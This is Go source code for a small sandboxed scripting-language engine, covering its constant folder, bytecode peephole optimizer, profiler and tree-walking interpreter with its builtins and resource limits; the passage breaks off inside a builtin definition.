package minilang

// Constant folding for the bytecode compiler. A subtree folds only if
// it is built entirely from literals and pure operators (arithmetic,
// comparison, not, and/or) and the operation provably succeeds under
// the engine's limits — anything that could error at runtime
// (division by zero, an over-limit string) is left unfolded so the
// runtime raises exactly what the interpreter would. Calls, variable
// reads, list construction, and indexing never fold, so host-visible
// side effects can never be elided: structurally, only literal leaves
// participate. Folding is cost-preserving: a foldedExpr remembers how
// many interpreter ticks evaluating the original subtree would have
// charged, and the compiler charges them all at the subtree's line.
// That batching is exact because a foldable subtree cannot span lines
// (the grammar only permits newlines inside list and call-argument
// brackets, which never fold).
//
// The pass copies nodes on change instead of mutating, so a Program
// stays shareable with the tree-walking interpreter.

// hasJumpTarget reports whether an instruction's a operand is a code
// index (as opposed to a slot/const index or arg count).
func hasJumpTarget(o op) bool {
	switch o {
	case opJump, opJumpIfFalse, opAndFalse, opOrTrue, opIterNext:
		return true
	}
	return false
}

func isArith(o op) bool { return o >= opAdd && o <= opGe }

// operandKind classifies a push instruction for fusion.
func operandKind(o op) (slot, konst bool) {
	return o == opLoad, o == opConst
}

// peephole rewrites the linear instruction stream, fusing the
// dominant dispatch patterns into superinstructions:
//
//	[load|const][load|const][arith]         ->  bin.ll / bin.lc / bin.cl
//	[load|const][load|const][arith][store]  ->  bin.ll.st / bin.lc.st / bin.cl.st
//	[arith][store]                          ->  bin.st
//	[load][store]                           ->  move
//	[const][store]                          ->  conststore
//
// Fusion must preserve the tick-accounting schedule exactly: the
// interpreter may raise NameError between the two operand reads (left
// read, then right's tick, then right read), so a fused instruction
// carries the first operand's tick batch in cost (charged before the
// left read, as usual) and the second's in cost2, charged by the VM
// between the reads. Folding a trailing store is always safe: nothing
// observable happens between computing a result and assigning it.
// Instructions that are jump targets, cross source lines, or carry
// unexpected charges are left unfused — correctness first, the
// pattern coverage is best-effort.
func peephole(ch *chunk) {
	code := ch.code
	isTarget := make([]bool, len(code)+1)
	for _, in := range code {
		if hasJumpTarget(in.op) && in.a >= 0 {
			isTarget[in.a] = true
		}
	}
	out := make([]inst, 0, len(code))
	remap := make([]int32, len(code)+1)
	// mark points every consumed source index at the fused instruction
	// about to be appended; jumps can't target them (checked), so the
	// entries only matter for remap completeness.
	mark := func(from, to int) {
		for j := from; j < to; j++ {
			remap[j] = int32(len(out))
		}
	}
	// fusableStore reports whether code[j] is a store that can absorb
	// into the preceding value-producing instruction at line.
	fusableStore := func(j int, line int32) bool {
		return j < len(code) && !isTarget[j] && code[j].op == opStore &&
			code[j].cost == 0 && code[j].line == line
	}
	i := 0
	for i < len(code) {
		remap[i] = int32(len(out))
		a := code[i]
		aSlot, aConst := operandKind(a.op)
		if (aSlot || aConst) && i+2 < len(code) && !isTarget[i+1] && !isTarget[i+2] {
			b, c := code[i+1], code[i+2]
			bSlot, bConst := operandKind(b.op)
			if (bSlot || bConst) && isArith(c.op) && c.cost == 0 &&
				a.line == b.line && b.line == c.line && !(aConst && bConst) {
				fused := inst{sub: c.op, a: a.a, b: b.a, line: a.line, cost: a.cost, cost2: b.cost}
				switch {
				case aSlot && bSlot:
					fused.op = opBinLL
				case aSlot && bConst:
					fused.op = opBinLC
				default:
					fused.op = opBinCL
				}
				n := 3
				if fusableStore(i+3, a.line) {
					fused.op += opBinLLSt - opBinLL
					fused.c = code[i+3].a
					n = 4
				} else if j := i + 3; j < len(code) && !isTarget[j] &&
					code[j].op == opJumpIfFalse && code[j].cost == 0 && code[j].line == a.line {
					fused.op += opBinLLJf - opBinLL
					fused.c = code[j].a
					n = 4
				}
				mark(i, i+n)
				out = append(out, fused)
				i += n
				continue
			}
		}
		if isArith(a.op) && fusableStore(i+1, a.line) {
			mark(i, i+2)
			out = append(out, inst{op: opBinSt, sub: a.op, a: code[i+1].a, line: a.line, cost: a.cost})
			i += 2
			continue
		}
		if (aSlot || aConst) && fusableStore(i+1, a.line) {
			// Two consecutive load/store pairs (a = b; c = d) collapse
			// into one move2 when the second destination fits the sub
			// byte. The second load's ticks ride in cost2, charged
			// between the two reads — the interpreter's schedule.
			if aSlot && i+3 < len(code) && !isTarget[i+2] &&
				code[i+2].op == opLoad && fusableStore(i+3, code[i+2].line) &&
				code[i+3].a < 256 {
				mark(i, i+4)
				out = append(out, inst{
					op: opMove2, sub: op(code[i+3].a),
					a: a.a, b: code[i+1].a, c: code[i+2].a,
					line: a.line, line2: code[i+2].line,
					cost: a.cost, cost2: code[i+2].cost,
				})
				i += 4
				continue
			}
			o := opMove
			if aConst {
				o = opConstStr
			}
			mark(i, i+2)
			out = append(out, inst{op: o, a: a.a, b: code[i+1].a, line: a.line, cost: a.cost})
			i += 2
			continue
		}
		out = append(out, a)
		i++
	}
	remap[len(code)] = int32(len(out))
	for idx := range out {
		if hasJumpTarget(out[idx].op) {
			out[idx].a = remap[out[idx].a]
		}
		if o := out[idx].op; o >= opBinLLJf && o <= opBinCLJf {
			out[idx].c = remap[out[idx].c]
		}
	}
	ch.code = out
}

// foldedExpr is a compiler-internal node: a pre-evaluated pure
// subtree and the tick cost of the original evaluation.
type foldedExpr struct {
	ln   int
	cost int32
	val  cell
}

func (e *foldedExpr) line() int { return e.ln }

func foldBlock(stmts []stmtNode, maxValueBytes int) []stmtNode {
	out := make([]stmtNode, len(stmts))
	for i, s := range stmts {
		out[i] = foldStmt(s, maxValueBytes)
	}
	return out
}

func foldStmt(s stmtNode, maxValueBytes int) stmtNode {
	switch t := s.(type) {
	case *assignStmt:
		if e := foldExpr(t.expr, maxValueBytes); e != t.expr {
			n := *t
			n.expr = e
			return &n
		}
	case *exprStmt:
		if e := foldExpr(t.expr, maxValueBytes); e != t.expr {
			n := *t
			n.expr = e
			return &n
		}
	case *ifStmt:
		n := *t
		n.cond = foldExpr(t.cond, maxValueBytes)
		n.then = foldBlock(t.then, maxValueBytes)
		n.elseBody = foldBlock(t.elseBody, maxValueBytes)
		return &n
	case *whileStmt:
		n := *t
		n.cond = foldExpr(t.cond, maxValueBytes)
		n.body = foldBlock(t.body, maxValueBytes)
		return &n
	case *forStmt:
		n := *t
		n.iter = foldExpr(t.iter, maxValueBytes)
		n.body = foldBlock(t.body, maxValueBytes)
		return &n
	}
	return s
}

func foldExpr(e exprNode, maxValueBytes int) exprNode {
	switch t := e.(type) {
	case *litExpr:
		return &foldedExpr{ln: t.ln, cost: 1, val: unbox(t.val)}
	case *notExpr:
		inner := foldExpr(t.inner, maxValueBytes)
		if f, ok := inner.(*foldedExpr); ok {
			return &foldedExpr{ln: t.ln, cost: 1 + f.cost, val: boolCell(!truthyCell(f.val))}
		}
		if inner != t.inner {
			n := *t
			n.inner = inner
			return &n
		}
	case *binExpr:
		left := foldExpr(t.left, maxValueBytes)
		right := foldExpr(t.right, maxValueBytes)
		lf, lok := left.(*foldedExpr)
		rf, rok := right.(*foldedExpr)
		if t.op == tokKwAnd || t.op == tokKwOr {
			if lok {
				ltr := truthyCell(lf.val)
				switch {
				case t.op == tokKwAnd && !ltr:
					// Short-circuit: right never evaluated.
					return &foldedExpr{ln: t.ln, cost: 1 + lf.cost, val: boolCell(false)}
				case t.op == tokKwOr && ltr:
					return &foldedExpr{ln: t.ln, cost: 1 + lf.cost, val: boolCell(true)}
				case rok:
					return &foldedExpr{ln: t.ln, cost: 1 + lf.cost + rf.cost, val: boolCell(truthyCell(rf.val))}
				}
			}
		} else if lok && rok {
			// Fold only when the operation succeeds under the same
			// limits the runtime would apply; otherwise leave the
			// error to happen at runtime, identically to the
			// interpreter.
			if v, err := applyBin(t.op, box(lf.val), box(rf.val), t.ln, maxValueBytes); err == nil {
				return &foldedExpr{ln: t.ln, cost: 1 + lf.cost + rf.cost, val: unbox(v)}
			}
		}
		if left != t.left || right != t.right {
			n := *t
			n.left = left
			n.right = right
			return &n
		}
	case *listExpr:
		var items []exprNode
		for i, item := range t.items {
			folded := foldExpr(item, maxValueBytes)
			if folded != item && items == nil {
				items = make([]exprNode, len(t.items))
				copy(items, t.items[:i])
			}
			if items != nil {
				items[i] = folded
			}
		}
		if items != nil {
			n := *t
			n.items = items
			return &n
		}
	case *indexExpr:
		base := foldExpr(t.base, maxValueBytes)
		index := foldExpr(t.index, maxValueBytes)
		if base != t.base || index != t.index {
			n := *t
			n.base = base
			n.index = index
			return &n
		}
	case *callExpr:
		var args []exprNode
		for i, a := range t.args {
			folded := foldExpr(a, maxValueBytes)
			if folded != a && args == nil {
				args = make([]exprNode, len(t.args))
				copy(args, t.args[:i])
			}
			if args != nil {
				args[i] = folded
			}
		}
		if args != nil {
			n := *t
			n.args = args
			return &n
		}
	}
	return e
}
