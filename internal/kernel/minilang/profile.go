package minilang

import (
	"fmt"
	"sort"
	"strings"
	"time"
)

// Profiler accumulates per-opcode and per-line execution statistics
// for the bytecode VM: how many times each instruction kind and each
// source line executed, and the cumulative wall time attributed to
// them. Attach with VM.SetProfiler; accumulation spans Run calls
// until Reset. Time is attributed from the start of an instruction to
// the start of the next, so dispatch overhead is included — which is
// what an optimization pass needs to see.
type Profiler struct {
	ops   [opCount]profStat
	lines map[int]*profStat

	lastOp   op
	lastLine int
	lastAt   time.Time
	open     bool
}

type profStat struct {
	count uint64
	nanos int64
}

// NewProfiler returns an empty profiler.
func NewProfiler() *Profiler {
	return &Profiler{lines: map[int]*profStat{}}
}

// Reset clears all accumulated statistics.
func (p *Profiler) Reset() {
	*p = Profiler{lines: map[int]*profStat{}}
}

// observe is called by the VM at the start of each instruction.
func (p *Profiler) observe(o op, line int) {
	now := timeNow()
	if p.open {
		p.attribute(now)
	}
	p.lastOp, p.lastLine, p.lastAt, p.open = o, line, now, true
	p.ops[o].count++
	ls := p.lines[line]
	if ls == nil {
		ls = &profStat{}
		p.lines[line] = ls
	}
	ls.count++
}

// settle closes the timing window of the final instruction; the VM
// calls it when execution stops.
func (p *Profiler) settle() {
	if p.open {
		p.attribute(timeNow())
		p.open = false
	}
}

func (p *Profiler) attribute(now time.Time) {
	d := now.Sub(p.lastAt).Nanoseconds()
	p.ops[p.lastOp].nanos += d
	p.lines[p.lastLine].nanos += d
}

// OpCount returns how many times opcode name executed (0 for unknown
// names).
func (p *Profiler) OpCount(name string) uint64 {
	for o, n := range opNames {
		if n == name {
			return p.ops[o].count
		}
	}
	return 0
}

// LineCount returns how many instructions executed attributed to a
// source line.
func (p *Profiler) LineCount(line int) uint64 {
	if ls := p.lines[line]; ls != nil {
		return ls.count
	}
	return 0
}

// Table renders the accumulated statistics as a deterministic table:
// opcodes in instruction-set order, then lines ascending, zero rows
// omitted. Counts are exact and reproducible for a given program;
// nanosecond columns are wall-time measurements.
func (p *Profiler) Table() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-10s %12s %14s\n", "OPCODE", "COUNT", "NANOS")
	for o := op(0); o < opCount; o++ {
		s := p.ops[o]
		if s.count == 0 {
			continue
		}
		fmt.Fprintf(&b, "%-10s %12d %14d\n", opNames[o], s.count, s.nanos)
	}
	lines := make([]int, 0, len(p.lines))
	for ln := range p.lines {
		lines = append(lines, ln)
	}
	sort.Ints(lines)
	fmt.Fprintf(&b, "%-10s %12s %14s\n", "LINE", "COUNT", "NANOS")
	for _, ln := range lines {
		s := p.lines[ln]
		if s.count == 0 {
			continue
		}
		fmt.Fprintf(&b, "%-10d %12d %14d\n", ln, s.count, s.nanos)
	}
	return b.String()
}
