package minilang

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
)

// Value is a minilang runtime value: Str, Number, List, or Nil.
type Value interface{ valueKind() string }

// Str is a string value.
type Str string

func (Str) valueKind() string { return "string" }

// Number is a numeric value.
type Number float64

func (Number) valueKind() string { return "number" }

// List is a list value.
type List []Value

func (List) valueKind() string { return "list" }

// Nil is the absent value.
type Nil struct{}

func (Nil) valueKind() string { return "nil" }

// Format renders a value for print output.
func Format(v Value) string {
	switch t := v.(type) {
	case Str:
		return string(t)
	case Number:
		return strconv.FormatFloat(float64(t), 'g', -1, 64)
	case List:
		parts := make([]string, len(t))
		for i, e := range t {
			parts[i] = Format(e)
		}
		return "[" + strings.Join(parts, ", ") + "]"
	case Nil, nil:
		return "nil"
	}
	return fmt.Sprintf("%v", v)
}

// Truthy reports whether a value counts as true.
func Truthy(v Value) bool {
	switch t := v.(type) {
	case Str:
		return t != ""
	case Number:
		return t != 0
	case List:
		return len(t) > 0
	default:
		return false
	}
}

// Host provides the interpreter's view of the outside world. The
// kernel binds it to the virtual filesystem and a network gateway;
// the audit layer wraps it to record provenance.
type Host interface {
	ReadFile(path string) ([]byte, error)
	WriteFile(path string, data []byte) error
	DeleteFile(path string) error
	RenameFile(oldPath, newPath string) error
	ListFiles(dir string) ([]string, error)
	// HTTPRequest performs a simulated outbound request and returns
	// the status code and response body.
	HTTPRequest(method, url string, body []byte) (int, []byte, error)
	// Shell runs a command in the simulated terminal context.
	Shell(cmd string) (string, error)
	// Spin accounts for cpuMillis of simulated compute.
	Spin(cpuMillis int64)
	Hostname() string
	Env(name string) string
}

// RuntimeError is an execution failure, carrying the failing line and
// an exception-style name used in error outputs.
type RuntimeError struct {
	Line  int
	EName string
	Msg   string
}

func (e *RuntimeError) Error() string {
	return fmt.Sprintf("minilang: line %d: %s: %s", e.Line, e.EName, e.Msg)
}

func rte(line int, ename, format string, args ...any) *RuntimeError {
	return &RuntimeError{Line: line, EName: ename, Msg: fmt.Sprintf(format, args...)}
}

// ErrTooManySteps is wrapped into the RuntimeError when the step
// budget is exhausted (infinite-loop protection).
var ErrTooManySteps = errors.New("step budget exhausted")

// breakSignal unwinds out of the innermost loop.
type breakSignal struct{}

func (breakSignal) Error() string { return "break outside loop" }

// Limits bounds an execution, the kernel's sandbox policy.
type Limits struct {
	MaxSteps       int   // statements+expressions evaluated (default 1e6)
	MaxOutputBytes int   // stdout bytes (default 1 MiB)
	MaxValueBytes  int   // max single string value (default 16 MiB)
	MaxSpinMillis  int64 // cap per spin() call (default 60000)
}

func (l Limits) withDefaults() Limits {
	if l.MaxSteps <= 0 {
		l.MaxSteps = 1_000_000
	}
	if l.MaxOutputBytes <= 0 {
		l.MaxOutputBytes = 1 << 20
	}
	if l.MaxValueBytes <= 0 {
		l.MaxValueBytes = 16 << 20
	}
	if l.MaxSpinMillis <= 0 {
		l.MaxSpinMillis = 60_000
	}
	return l
}

// rt is the runtime substrate shared by both execution engines: the
// host binding, limits, stdout buffer, step budget, and the usage
// counters the kernel snapshots for resource-abuse detection. The
// builtins operate on rt, so the tree-walker and the bytecode VM call
// the exact same primitive implementations.
type rt struct {
	host   Host
	limits Limits
	stdout *strings.Builder
	steps  int

	// Usage accounting for resource-abuse detection. Exported via
	// struct embedding so engine users read them directly.
	CPUMillis    int64
	BytesRead    int64
	BytesWritten int64
	NetBytes     int64
	NetCalls     int
	ShellCalls   int
}

// Interp executes programs against a Host by walking the AST. It is
// the reference engine: the bytecode VM is differentially tested
// against it (FuzzVMMatchesInterp) and must match its observable
// behavior exactly.
type Interp struct {
	rt
	vars map[string]Value
}

// NewInterp returns a tree-walking interpreter bound to host.
func NewInterp(host Host, limits Limits) *Interp {
	return &Interp{
		rt: rt{
			host:   host,
			limits: limits.withDefaults(),
			stdout: &strings.Builder{},
		},
		vars: map[string]Value{},
	}
}

// Vars exposes the variable environment (persistent across Run calls,
// like a kernel namespace across cells).
func (in *Interp) Vars() map[string]Value { return in.vars }

// TakeStdout returns and clears accumulated stdout.
func (r *rt) TakeStdout() string {
	s := r.stdout.String()
	r.stdout.Reset()
	return s
}

// Run parses and executes src. Accumulated stdout is retrieved with
// TakeStdout. The step budget applies per Run call.
func (in *Interp) Run(src string) error {
	prog, err := Parse(src)
	if err != nil {
		return err
	}
	return in.RunProgram(prog)
}

// RunProgram executes an already parsed program.
func (in *Interp) RunProgram(prog *Program) error {
	in.steps = 0
	err := in.execBlock(prog.stmts)
	if _, isBreak := err.(breakSignal); isBreak {
		return rte(0, "SyntaxError", "break outside loop")
	}
	return err
}

func (r *rt) tick(line int) error {
	r.steps++
	if r.steps > r.limits.MaxSteps {
		return rte(line, "ResourceError", "%v (%d)", ErrTooManySteps, r.limits.MaxSteps)
	}
	return nil
}

// charge consumes n ticks at once. The VM uses it to account for a
// whole instruction's worth of interpreter steps; crossing the budget
// anywhere inside the batch reports the same error the per-tick path
// would, at the same line.
func (r *rt) charge(n int, line int) error {
	r.steps += n
	if r.steps > r.limits.MaxSteps {
		return rte(line, "ResourceError", "%v (%d)", ErrTooManySteps, r.limits.MaxSteps)
	}
	return nil
}

func (in *Interp) execBlock(stmts []stmtNode) error {
	for _, s := range stmts {
		if err := in.exec(s); err != nil {
			return err
		}
	}
	return nil
}

func (in *Interp) exec(s stmtNode) error {
	if err := in.tick(s.line()); err != nil {
		return err
	}
	switch t := s.(type) {
	case *assignStmt:
		v, err := in.eval(t.expr)
		if err != nil {
			return err
		}
		in.vars[t.name] = v
		return nil
	case *exprStmt:
		_, err := in.eval(t.expr)
		return err
	case *breakStmt:
		return breakSignal{}
	case *ifStmt:
		cond, err := in.eval(t.cond)
		if err != nil {
			return err
		}
		if Truthy(cond) {
			return in.execBlock(t.then)
		}
		return in.execBlock(t.elseBody)
	case *whileStmt:
		for {
			cond, err := in.eval(t.cond)
			if err != nil {
				return err
			}
			if !Truthy(cond) {
				return nil
			}
			if err := in.execBlock(t.body); err != nil {
				if _, isBreak := err.(breakSignal); isBreak {
					return nil
				}
				return err
			}
			if err := in.tick(t.ln); err != nil {
				return err
			}
		}
	case *forStmt:
		iter, err := in.eval(t.iter)
		if err != nil {
			return err
		}
		list, ok := iter.(List)
		if !ok {
			if s, isStr := iter.(Str); isStr {
				// Iterating a string yields its lines.
				for _, line := range strings.Split(string(s), "\n") {
					list = append(list, Str(line))
				}
			} else {
				return rte(t.ln, "TypeError", "for loop needs a list, got %s", iter.valueKind())
			}
		}
		for _, item := range list {
			in.vars[t.vari] = item
			if err := in.execBlock(t.body); err != nil {
				if _, isBreak := err.(breakSignal); isBreak {
					return nil
				}
				return err
			}
			if err := in.tick(t.ln); err != nil {
				return err
			}
		}
		return nil
	}
	return rte(s.line(), "InternalError", "unknown statement %T", s)
}

func (in *Interp) eval(e exprNode) (Value, error) {
	if err := in.tick(e.line()); err != nil {
		return nil, err
	}
	switch t := e.(type) {
	case *litExpr:
		return t.val, nil
	case *varExpr:
		v, ok := in.vars[t.name]
		if !ok {
			return nil, rte(t.ln, "NameError", "name %q is not defined", t.name)
		}
		return v, nil
	case *listExpr:
		out := make(List, 0, len(t.items))
		for _, item := range t.items {
			v, err := in.eval(item)
			if err != nil {
				return nil, err
			}
			out = append(out, v)
		}
		return out, nil
	case *notExpr:
		v, err := in.eval(t.inner)
		if err != nil {
			return nil, err
		}
		return boolVal(!Truthy(v)), nil
	case *indexExpr:
		base, err := in.eval(t.base)
		if err != nil {
			return nil, err
		}
		idxV, err := in.eval(t.index)
		if err != nil {
			return nil, err
		}
		return indexValue(base, idxV, t.ln)
	case *binExpr:
		return in.evalBin(t)
	case *callExpr:
		return in.call(t)
	}
	return nil, rte(e.line(), "InternalError", "unknown expression %T", e)
}

func boolVal(b bool) Value {
	if b {
		return Number(1)
	}
	return Number(0)
}

// indexValue applies the indexing operator. Shared by both engines so
// error text and negative-index semantics cannot drift.
func indexValue(base, idxV Value, ln int) (Value, error) {
	idx, ok := idxV.(Number)
	if !ok {
		return nil, rte(ln, "TypeError", "index must be a number")
	}
	i := int(idx)
	switch b := base.(type) {
	case List:
		if i < 0 {
			i += len(b)
		}
		if i < 0 || i >= len(b) {
			return nil, rte(ln, "IndexError", "index %d out of range (len %d)", int(idx), len(b))
		}
		return b[i], nil
	case Str:
		if i < 0 {
			i += len(b)
		}
		if i < 0 || i >= len(b) {
			return nil, rte(ln, "IndexError", "index %d out of range (len %d)", int(idx), len(b))
		}
		return Str(b[i : i+1]), nil
	default:
		return nil, rte(ln, "TypeError", "cannot index %s", base.valueKind())
	}
}

func (in *Interp) evalBin(t *binExpr) (Value, error) {
	// Short-circuit logicals first.
	if t.op == tokKwAnd || t.op == tokKwOr {
		left, err := in.eval(t.left)
		if err != nil {
			return nil, err
		}
		if t.op == tokKwAnd && !Truthy(left) {
			return boolVal(false), nil
		}
		if t.op == tokKwOr && Truthy(left) {
			return boolVal(true), nil
		}
		right, err := in.eval(t.right)
		if err != nil {
			return nil, err
		}
		return boolVal(Truthy(right)), nil
	}
	left, err := in.eval(t.left)
	if err != nil {
		return nil, err
	}
	right, err := in.eval(t.right)
	if err != nil {
		return nil, err
	}
	return applyBin(t.op, left, right, t.ln, in.limits.MaxValueBytes)
}

// applyBin applies a non-logical binary operator to two evaluated
// operands. It is the single source of truth for operator semantics:
// the tree-walker, the VM's non-number slow path, and the compiler's
// constant folder all call it, so results and error text cannot
// diverge between engines.
func applyBin(op tokKind, left, right Value, ln int, maxValueBytes int) (Value, error) {
	switch op {
	case tokPlus:
		switch l := left.(type) {
		case Number:
			if r, ok := right.(Number); ok {
				return l + r, nil
			}
		case Str:
			if r, ok := right.(Str); ok {
				if len(l)+len(r) > maxValueBytes {
					return nil, rte(ln, "ResourceError", "string exceeds %d bytes", maxValueBytes)
				}
				return l + r, nil
			}
		case List:
			if r, ok := right.(List); ok {
				out := make(List, 0, len(l)+len(r))
				return append(append(out, l...), r...), nil
			}
		}
		return nil, rte(ln, "TypeError", "cannot add %s and %s", left.valueKind(), right.valueKind())
	case tokMinus, tokStar, tokSlash, tokPercent:
		l, lok := left.(Number)
		r, rok := right.(Number)
		if op == tokStar {
			// "ab" * 3 string repetition.
			if ls, ok := left.(Str); ok && rok {
				n := int(r)
				if n < 0 || len(ls)*n > maxValueBytes {
					return nil, rte(ln, "ResourceError", "repetition exceeds limit")
				}
				return Str(strings.Repeat(string(ls), n)), nil
			}
		}
		if !lok || !rok {
			return nil, rte(ln, "TypeError", "arithmetic needs numbers, got %s and %s", left.valueKind(), right.valueKind())
		}
		switch op {
		case tokMinus:
			return l - r, nil
		case tokStar:
			return l * r, nil
		case tokSlash:
			if r == 0 {
				return nil, rte(ln, "ZeroDivisionError", "division by zero")
			}
			return l / r, nil
		case tokPercent:
			// Modulo truncates both operands; the guard must test the
			// truncated divisor or a fractional r in (-1, 1) panics the
			// runtime (e.g. 1 % 0.5).
			if int64(r) == 0 {
				return nil, rte(ln, "ZeroDivisionError", "modulo by zero")
			}
			return Number(int64(l) % int64(r)), nil
		}
	case tokEq:
		return boolVal(valueEq(left, right)), nil
	case tokNeq:
		return boolVal(!valueEq(left, right)), nil
	case tokLt, tokGt, tokLe, tokGe:
		cmp, err := valueCmp(left, right)
		if err != nil {
			return nil, rte(ln, "TypeError", "%v", err)
		}
		switch op {
		case tokLt:
			return boolVal(cmp < 0), nil
		case tokGt:
			return boolVal(cmp > 0), nil
		case tokLe:
			return boolVal(cmp <= 0), nil
		case tokGe:
			return boolVal(cmp >= 0), nil
		}
	}
	return nil, rte(ln, "InternalError", "unknown operator")
}

func valueEq(a, b Value) bool {
	switch l := a.(type) {
	case Str:
		r, ok := b.(Str)
		return ok && l == r
	case Number:
		r, ok := b.(Number)
		return ok && l == r
	case Nil:
		_, ok := b.(Nil)
		return ok
	case List:
		r, ok := b.(List)
		if !ok || len(l) != len(r) {
			return false
		}
		for i := range l {
			if !valueEq(l[i], r[i]) {
				return false
			}
		}
		return true
	}
	return false
}

func valueCmp(a, b Value) (int, error) {
	if l, ok := a.(Number); ok {
		if r, ok := b.(Number); ok {
			switch {
			case l < r:
				return -1, nil
			case l > r:
				return 1, nil
			}
			return 0, nil
		}
	}
	if l, ok := a.(Str); ok {
		if r, ok := b.(Str); ok {
			return strings.Compare(string(l), string(r)), nil
		}
	}
	return 0, fmt.Errorf("cannot compare %s and %s", a.valueKind(), b.valueKind())
}

// call dispatches a builtin function.
func (in *Interp) call(t *callExpr) (Value, error) {
	args := make([]Value, len(t.args))
	for i, a := range t.args {
		v, err := in.eval(a)
		if err != nil {
			return nil, err
		}
		args[i] = v
	}
	return invokeBuiltin(&in.rt, t.name, builtins[t.name], t.ln, args)
}

// invokeBuiltin checks existence and arity, invokes fn, and wraps
// non-minilang errors as OSError — after arguments have been
// evaluated, matching the interpreter's historical order (argument
// side effects happen even for unknown functions). Shared by both
// engines.
func invokeBuiltin(in *rt, name string, fn *builtin, ln int, args []Value) (Value, error) {
	if fn == nil {
		return nil, rte(ln, "NameError", "unknown function %q", name)
	}
	if fn.arity >= 0 && len(args) != fn.arity {
		return nil, rte(ln, "TypeError", "%s() takes %d arguments, got %d", name, fn.arity, len(args))
	}
	v, err := fn.impl(in, ln, args)
	if err != nil {
		if _, ok := err.(*RuntimeError); ok {
			return nil, err
		}
		return nil, rte(ln, "OSError", "%s: %v", name, err)
	}
	return v, nil
}

type builtin struct {
	arity int // -1 = variadic
	impl  func(in *rt, line int, args []Value) (Value, error)
}

func argStr(line int, name string, args []Value, i int) (string, error) {
	s, ok := args[i].(Str)
	if !ok {
		return "", rte(line, "TypeError", "%s: argument %d must be a string, got %s", name, i+1, args[i].valueKind())
	}
	return string(s), nil
}

func argNum(line int, name string, args []Value, i int) (float64, error) {
	n, ok := args[i].(Number)
	if !ok {
		return 0, rte(line, "TypeError", "%s: argument %d must be a number, got %s", name, i+1, args[i].valueKind())
	}
	return float64(n), nil
}

var (
	builtinNamesOnce sync.Once
	builtinNames     []string
)

// BuiltinNames returns the sorted list of builtin function names —
// used by detection rules that key on dangerous primitives and by
// the kernel's completion handler on every request. The slice is
// computed once and shared; callers must not mutate it.
func BuiltinNames() []string {
	builtinNamesOnce.Do(func() {
		builtinNames = make([]string, 0, len(builtins))
		for name := range builtins {
			builtinNames = append(builtinNames, name)
		}
		sort.Strings(builtinNames)
	})
	return builtinNames
}

var builtins = map[string]*builtin{
	"print": {arity: -1, impl: func(in *rt, line int, args []Value) (Value, error) {
		parts := make([]string, len(args))
		for i, a := range args {
			parts[i] = Format(a)
		}
		out := strings.Join(parts, " ") + "\n"
		if in.stdout.Len()+len(out) > in.limits.MaxOutputBytes {
			return nil, rte(line, "ResourceError", "stdout exceeds %d bytes", in.limits.MaxOutputBytes)
		}
		in.stdout.WriteString(out)
		return Nil{}, nil
	}},
	"len": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		switch v := args[0].(type) {
		case Str:
			return Number(len(v)), nil
		case List:
			return Number(len(v)), nil
		}
		return nil, rte(line, "TypeError", "len: needs string or list")
	}},
	"str": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		return Str(Format(args[0])), nil
	}},
	"num": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "num", args, 0)
		if err != nil {
			if n, ok := args[0].(Number); ok {
				return n, nil
			}
			return nil, err
		}
		f, perr := strconv.ParseFloat(strings.TrimSpace(s), 64)
		if perr != nil {
			return nil, rte(line, "ValueError", "num: %q", s)
		}
		return Number(f), nil
	}},
	"range": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		n, err := argNum(line, "range", args, 0)
		if err != nil {
			return nil, err
		}
		if n < 0 || n > 1e6 {
			return nil, rte(line, "ValueError", "range: %g out of bounds", n)
		}
		out := make(List, int(n))
		// Bulk-copy the pre-boxed prefix: element-wise boxing is the
		// hot path of range-driven loops on both engines.
		k := copy(out, smallNumList[:min(len(out), len(smallNumList))])
		for i := k; i < len(out); i++ {
			out[i] = Number(i)
		}
		return out, nil
	}},
	"append": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		l, ok := args[0].(List)
		if !ok {
			return nil, rte(line, "TypeError", "append: first argument must be a list")
		}
		out := make(List, 0, len(l)+1)
		return append(append(out, l...), args[1]), nil
	}},
	"split": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "split", args, 0)
		if err != nil {
			return nil, err
		}
		sep, err := argStr(line, "split", args, 1)
		if err != nil {
			return nil, err
		}
		parts := strings.Split(s, sep)
		out := make(List, len(parts))
		for i, p := range parts {
			out[i] = Str(p)
		}
		return out, nil
	}},
	"join": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		l, ok := args[0].(List)
		if !ok {
			return nil, rte(line, "TypeError", "join: first argument must be a list")
		}
		sep, err := argStr(line, "join", args, 1)
		if err != nil {
			return nil, err
		}
		parts := make([]string, len(l))
		for i, v := range l {
			parts[i] = Format(v)
		}
		return Str(strings.Join(parts, sep)), nil
	}},
	"contains": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "contains", args, 0)
		if err != nil {
			return nil, err
		}
		sub, err := argStr(line, "contains", args, 1)
		if err != nil {
			return nil, err
		}
		return boolVal(strings.Contains(s, sub)), nil
	}},
	"upper": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "upper", args, 0)
		if err != nil {
			return nil, err
		}
		return Str(strings.ToUpper(s)), nil
	}},
	"lower": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "lower", args, 0)
		if err != nil {
			return nil, err
		}
		return Str(strings.ToLower(s)), nil
	}},
	"sha256": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "sha256", args, 0)
		if err != nil {
			return nil, err
		}
		sum := sha256.Sum256([]byte(s))
		return Str(hex.EncodeToString(sum[:])), nil
	}},
	"b64encode": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "b64encode", args, 0)
		if err != nil {
			return nil, err
		}
		return Str(base64.StdEncoding.EncodeToString([]byte(s))), nil
	}},
	"b64decode": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		s, err := argStr(line, "b64decode", args, 0)
		if err != nil {
			return nil, err
		}
